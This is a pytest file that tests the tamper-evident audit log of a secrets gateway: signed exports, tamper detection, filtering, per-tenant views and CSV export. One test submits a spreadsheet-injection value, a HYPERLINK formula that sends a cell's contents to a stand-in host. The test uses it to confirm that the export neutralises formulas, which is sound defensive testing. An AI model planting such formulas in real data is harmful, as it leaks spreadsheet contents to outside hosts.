"""The record of use as others read it: the signed tree, its export, and what is noticed while the server runs.

SPDX-License-Identifier: Apache-2.0
"""

import base64
import contextlib
import csv
import hashlib
import io
import json
import os
import shutil
import signal
import subprocess
import urllib.error
import urllib.request
from pathlib import Path

import httpx
import pytest

from support.room import FAILED, WRONG_USE
from support.waiting import until
from test_proxy import Session

CHECKER = Path(__file__).resolve().parent / "support" / "tlog_check"
needs_go = pytest.mark.skipif(shutil.which("go") is None, reason="Go is not installed")


def fill(room, count):
    for number in range(count):
        status, _ = room.api("POST", "/api/v1/members", {"tenant": "acme", "name": f"m{number}"})
        assert status == 201


def export(room, folder):
    """Once all that was recorded is under a checkpoint."""
    entries = room.json("audit", "verify")["entries"]
    until(lambda: room.json("audit", "verify")["tree_size"] >= entries, 60, "a checkpoint of the tree")
    return room.json("audit", "export", "--tiles", str(folder))


def ready(room):
    try:
        with urllib.request.urlopen(f"http://{room.endpoints['metrics']}/readyz", timeout=30) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as refused:
        return refused.code, refused.read().decode()


def test_an_export_is_checked_without_a_server_and_names_what_does_not_fit(room, tmp_path):
    fill(room, 20)
    out = tmp_path / "out"
    exported = export(room, out)
    room.stop()
    key = (room.data / "record-key.pub").read_text().strip()
    verified = room.json("audit", "verify", str(out), "--public-key", key)
    assert verified["tree_root"] == exported["tree_root"] and verified["entries"] == exported["entries"] > 20
    [bundle] = (out / "tile" / "entries" / "000.p").iterdir()
    good = bundle.read_bytes()
    bad = bytearray(good)
    first = 2 + int.from_bytes(good[:2], "big")
    bad[first + 12] ^= 1  # the time of the second entry
    bundle.write_bytes(bad)
    refused = room.cli("audit", "verify", str(out), "--public-key", key, expect=FAILED)
    assert "from entry 2 on" in refused.stderr
    bundle.write_bytes(good[:-1])
    assert str(exported["entries"]) in room.cli("audit", "verify", str(out), "--public-key", key, expect=FAILED).stderr


@needs_go
def test_another_implementation_checks_signature_tiles_and_every_entry(room, tmp_path):
    fill(room, 300)
    exported = export(room, tmp_path / "out")
    assert exported["entries"] > 300
    work = tmp_path / "check"
    shutil.copytree(CHECKER, work)
    environment = {**os.environ, "CGO_ENABLED": "0", "GOTOOLCHAIN": "local"}
    subprocess.run(["go", "build", "-o", "check", "."], env=environment, cwd=work, check=True, timeout=170)
    checked = subprocess.run([work / "check", tmp_path / "out"], capture_output=True, text=True, timeout=60)
    assert checked.returncode == 0, checked.stderr
    name, size = checked.stdout.split()
    assert name.startswith("strongroom.record/") and int(size) == exported["entries"]
    [bundle] = (tmp_path / "out" / "tile" / "entries" / "001.p").iterdir()
    bundle.write_bytes(bundle.read_bytes().replace(b"member.add", b"member.aid", 1))
    assert subprocess.run([work / "check", tmp_path / "out"], capture_output=True, timeout=60).returncode == 1


def test_an_edit_while_running_stops_what_must_be_recorded_and_says_so(room):
    fill(room, 3)
    entries = room.json("audit", "verify")["entries"]
    until(lambda: room.json("audit", "verify")["tree_size"] >= entries, 60, "a checkpoint of the tree")
    assert ready(room)[0] == 200
    key_id, _ = room.add_key("gemini")
    with open(room.data / "audit" / "record-00000001.log", "r+b") as record:
        record.seek(30)
        record.write(b"x")
    until(lambda: ready(room)[0] == 503, 60, "the change is noticed")
    assert "does not fit" in ready(room)[1]
    status, answer = room.api("POST", "/api/v1/members", {"tenant": "acme", "name": "late"})
    assert status >= 500 and "does not fit" in json.dumps(answer)
    with urllib.request.urlopen(f"http://{room.endpoints['metrics']}/metrics", timeout=30) as metrics:
        assert "strongroom_record_writable 0" in metrics.read().decode()


def test_the_end_of_a_stopped_servers_record_cannot_be_cut_off(room):
    record = room.data / "audit" / "record-00000001.log"
    room.stop()
    good = record.read_bytes()
    room.start()
    fill(room, 2)
    room.stop()
    record.write_bytes(good)
    assert "its end was cut off" in room.refused_start()
    assert record.read_bytes() == good


def test_the_record_is_filtered_by_time_kind_service_and_finding(room):
    fill(room, 3)
    key_id, _ = room.add_key("gemini")
    entries = room.json("audit", "list", "--tenant", "acme")
    added = next(each for each in entries if each["action"] == "key.add")
    assert [each["id"] for each in room.json("audit", "list", "--service", "gemini")] == [added["id"]]
    assert {each["id"] for each in room.json("audit", "list", "--kind", "change", "--tenant", "acme")} == {each["id"] for each in entries}
    assert room.json("audit", "list", "--kind", "finding") == room.json("audit", "list", "--finding", "denied_path") == []
    later = [each["id"] for each in entries if each["time"] >= added["time"]]
    assert [each["id"] for each in room.json("audit", "list", "--tenant", "acme", "--since", added["time"])] == later
    earlier = [each["id"] for each in entries if each["time"] < added["time"]]
    assert [each["id"] for each in room.json("audit", "list", "--tenant", "acme", "--until", added["time"])] == earlier
    assert room.json("audit", "list", "--since", "2999-01-01") == []
    assert "is a day" in room.cli("audit", "list", "--since", "yesterday", expect=WRONG_USE).stderr
    assert [each["id"] for each in room.json("audit", "list", "--key", key_id, "--until", "2999-12-31T23:59:59+01:00")] == [added["id"]]


def test_an_export_as_csv_says_the_same_and_is_safe_in_a_spreadsheet(room):
    """A session may end for a reason that somebody made to be a formula."""
    room.add_key("gemini")
    session = room.json("session", "start", "--tenant", "acme", "--member", "alice", "--service", "gemini")["session"]["id"]
    why = '=HYPERLINK("https://x.example/?"&A1,"a, b")\r\nnext'
    assert room.api("POST", f"/api/v1/sessions/{session}/end", {"why": why})[0] == 200
    exported = room.cli("audit", "export", "--tenant", "acme", "--csv").stdout
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    lines = [json.loads(line) for line in room.cli("audit", "export", "--tenant", "acme").stdout.splitlines()]
    assert [row["id"] for row in rows] == [line["id"] for line in lines] and len(rows) > 3
    for row, line in zip(rows, lines):
        assert row["action"] == line["action"] and row["tenant"] == "acme" and None not in row
    details = [row["detail"] for row in rows if "HYPERLINK" in row["detail"]]
    assert details and all(detail.startswith("'" + why) for detail in details)
    assert not [cell for row in rows for cell in row.values() if cell[:1] in tuple("=+-@")]


def leaves_of(room, size):
    """The first hashes of the record's tree, from its tiles."""

    def read():
        """Not while one that has grown takes another's place."""
        with contextlib.suppress(FileNotFoundError, ValueError):
            tiles = sorted((room.data / "audit" / "tlog" / "tile" / "0").glob("[0-9]*"))
            newest = [max(tile.iterdir(), key=lambda part: int(part.name)) if tile.suffix == ".p" else tile for tile in tiles]
            return b"".join(tile.read_bytes() for tile in newest)

    octets = until(read, what="the tiles")
    return [octets[at : at + 32] for at in range(0, 32 * size, 32)]


def half_of(count):
    return 1 << ((count - 1).bit_length() - 1)


def root_of(leaves):
    if len(leaves) == 1:
        return leaves[0]
    half = half_of(len(leaves))
    return hashlib.sha256(b"\1" + root_of(leaves[:half]) + root_of(leaves[half:])).digest()


def pruned(leaves, own, begin, end):
    """The hashes of a view with the entries `own`, as docs/formats/audit.md has them."""
    if not any(begin <= index < end for index in own):
        return [base64.b64encode(root_of(leaves[begin:end])).decode()]
    if end - begin == 1:
        return []
    middle = begin + half_of(end - begin)
    return pruned(leaves, own, begin, middle) + pruned(leaves, own, middle, end)


def test_a_tenants_part_is_checked_alone_misses_nothing_and_tells_nothing_of_others(room, tmp_path):
    room.people("globex", ("bob-of-globex",))
    fill(room, 20)
    room.cli("member", "add", "--tenant", "globex", "carol-of-globex")
    out = tmp_path / "acme"
    room.cli("audit", "export", "--tenant", "acme", "--view", str(out))
    room.cli("audit", "verify")
    document = json.loads((out / "view.json").read_text())
    size = int(document["checkpoint"].splitlines()[1])
    leaves = leaves_of(room, size)
    own = [each["index"] for each in document["entries"]]
    assert document["hashes"] == pruned(leaves, own, 0, size), "another implementation makes the same of it"
    key = (room.data / "record-key.pub").read_text().strip()
    verify = lambda expect=0: room.cli("audit", "verify", str(out), "--public-key", key, expect=expect)
    assert json.loads(room.cli("audit", "verify", str(out), "--public-key", key, "--json").stdout)["entries"] == len(own) > 22
    lines = [json.loads(line) for line in (out / "entries.ndjson").read_text().splitlines()]
    assert {line["tenant"] for line in lines} == {document["tenant"]}
    listed = {each["id"] for each in room.json("audit", "list", "--tenant", "acme", "--limit", "1000")}
    assert {line["id"] for line in lines} == listed
    assert all(b"globex" not in base64.b64decode(each["entry"]) for each in document["entries"])
    # Whoever leaves an entry out, and makes the proof of the rest anew from the whole record's hashes:
    for left_out in (own[0], own[len(own) // 2]):
        less = [index for index in own if index != left_out]
        rest = [each for each in document["entries"] if each["index"] != left_out]
        (out / "view.json").write_text(json.dumps({**document, "entries": rest, "hashes": pruned(leaves, less, 0, size)}))
        assert "entries of the tenant" in verify(FAILED).stderr
    changed = json.loads(json.dumps(document))
    octets = bytearray(base64.b64decode(changed["entries"][1]["entry"]))
    octets[-1] ^= 1
    changed["entries"][1]["entry"] = base64.b64encode(octets).decode()
    (out / "view.json").write_text(json.dumps(changed))
    verify(FAILED)
    (out / "view.json").write_text(json.dumps(document))
    (out / "entries.ndjson").write_text((out / "entries.ndjson").read_text().replace("member.add", "member.aid", 1))
    assert "does not say" in verify(FAILED).stderr


def test_an_auditor_gets_the_own_tenants_part_alone(room):
    room.people("globex", ())
    room.cli("member", "add", "--tenant", "acme", "--role", "auditor", "eve")
    token = room.json("token", "add", "--tenant", "acme", "--member", "eve", "test")["token"]
    status, view = room.api("POST", "/api/v1/audit/view?tenant=acme", {}, token)
    assert status == 200 and view["entries"]
    assert room.api("POST", "/api/v1/audit/view?tenant=globex", {}, token)[0] == 404


@contextlib.contextmanager
def held_stream(room, session):
    url = f"{room.gateway}/gemini/standin/sse?events=1&hold"
    headers = {"x-goog-api-key": session.passes["gemini"]}
    with httpx.stream("GET", url, headers=headers, timeout=30) as events:
        assert events.status_code == 200
        yield


def test_a_use_whose_gateway_or_vault_was_killed_ends_as_unknown(room):
    room.add_key("gemini")
    session = Session(room, "gemini")

    def outcomes():
        return [entry.get("outcome") for entry in room.json("audit", "list", "--kind", "use")]

    [gateway] = room.gateway_pids()
    with held_stream(room, session):
        os.kill(gateway, signal.SIGKILL)
        until(lambda: outcomes() == ["unknown"], 30, "the vault says what it knows")
    until(lambda: room.gateway_pids() not in ([], [gateway]), 30, "another gateway")
    with held_stream(room, session):
        until(lambda: len(outcomes()) == 2, 30, "the second is recorded")
        room.kill9()
    room.start()
    until(lambda: outcomes() == ["unknown", "unknown"], what="and so does the one that was started anew")
